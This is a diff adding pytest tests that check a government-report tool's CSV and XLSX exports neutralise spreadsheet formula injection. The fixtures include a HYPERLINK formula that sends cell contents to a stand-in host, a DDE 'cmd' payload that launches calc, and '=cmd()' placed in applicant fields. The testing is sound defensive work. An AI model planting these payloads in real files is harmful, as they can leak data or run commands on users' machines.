@@ -1,0 +1,68 @@
+"""What a hostile request, a careless upload or a new user broke (issue 14), each fixed."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+
+from fastapi.testclient import TestClient
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from xxgk.record import Record
+from xxgk.register import service
+from xxgk.register.ledger import rows_of, write
+from xxgk.render import render
+from xxgk.store.ingest import ingest, local_engine
+from xxgk.store.models import Report
+from xxgk.tabular import neutral, write_csv, write_xlsx
+from xxgk.web.api import create_app
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
+
+
+def test_text_never_runs_as_a_formula_in_csv_or_xlsx(tmp_path):
+    assert [neutral(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
+    assert [neutral(v) for v in ("-3", "+12", "-", "正文", 5, None)] == ["-3", "+12", "'-", "正文", 5, None]
+    write_csv(tmp_path / "t.csv", ["机关"], [[f] for f in FORMULAS])
+    cells = [r[0] for r in csv.reader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8-sig")))][1:]
+    assert all(c.startswith("'") for c in cells)
+    write_xlsx(tmp_path / "t.xlsx", [("表", ["机关"], [[f] for f in FORMULAS])])
+    ws = load_workbook(tmp_path / "t.xlsx")["表"]
+    assert [(c.value, c.data_type) for (c,) in ws.iter_rows(min_row=2)] == [(f, "s") for f in FORMULAS]
+
+
+def test_a_workbook_from_an_uploaded_report_keeps_its_text_as_text():
+    rec = Record(body=FORMULAS[0], year=2024, format="2021", sections={"overview": "=1+1"})
+    wb = load_workbook(io.BytesIO(render(rec, "xlsx")))
+    info = wb.worksheets[0]
+    assert (info["B3"].value, info["B3"].data_type) == (FORMULAS[0], "s")
+    assert info["A1"].data_type == "f"  # the workbook's own title formula stays one
+    text = next(ws for ws in wb.worksheets if ws["B1"].value and "正文" in str(ws["B1"].value))
+    assert [(r[1].value, r[1].data_type) for r in text.iter_rows(min_row=2, max_row=2)] == [("=1+1", "s")]
+
+
+def test_the_registers_export_neutralises_an_applicants_fields(sessions, tmp_path):
+    with sessions() as s:
+        body = service.add_body(s, "示例市教育局")
+        app = service.receive(s, body, date(2025, 9, 30), "natural_person", "counter", applicant_name="=cmd()",
+                              applicant_contact="@13800138000", content="+学区划分")
+        headers, rows = rows_of([service.view(s, app.id)], personal=True)
+    write(tmp_path / "台账.csv", headers, rows)
+    text = (tmp_path / "台账.csv").read_text(encoding="utf-8-sig")
+    assert "'=cmd()" in text and "'@13800138000" in text and "'+学区划分" in text
+    assert ",=cmd()" not in text
+
+
+def test_the_public_cell_export_neutralises_a_body_name(sessions, tmp_path):
+    report = ("=HYPERLINK(\"http://x\")局2023年政府信息公开工作年度报告\n一、总体情况\n无。\n"
+              "四、政府信息公开行政复议、行政诉讼情况\n行政复议 行政诉讼\n结果维持 结果纠正 其他结果 尚未审结 总计 "
+              "未经复议直接起诉 复议后起诉\n" + "0 " * 15 + "\n五、存在的主要问题及改进情况\n无。\n")
+    (tmp_path / "r.txt").write_text(report, encoding="utf-8")
+    with sessions() as s:
+        ingest(s, [tmp_path], local_engine(1))
+        assert s.scalars(select(Report.body_name)).one().startswith("=HYPERLINK")
+    with TestClient(create_app(sessions)) as client:
+        body = client.get("/reports/export.csv").content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in body and ",=HYPERLINK" not in body
